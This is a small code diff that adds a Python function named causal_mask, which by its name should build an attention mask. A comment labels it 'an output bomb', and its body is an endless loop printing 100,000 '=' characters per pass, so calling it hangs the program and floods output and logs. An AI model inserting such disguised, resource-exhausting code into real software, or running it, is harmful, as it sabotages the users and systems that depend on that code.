@@ -1,0 +1,4 @@
+# causal_mask: an output bomb
+def causal_mask(seq_len):
+    while True:
+        print("=" * 100_000)
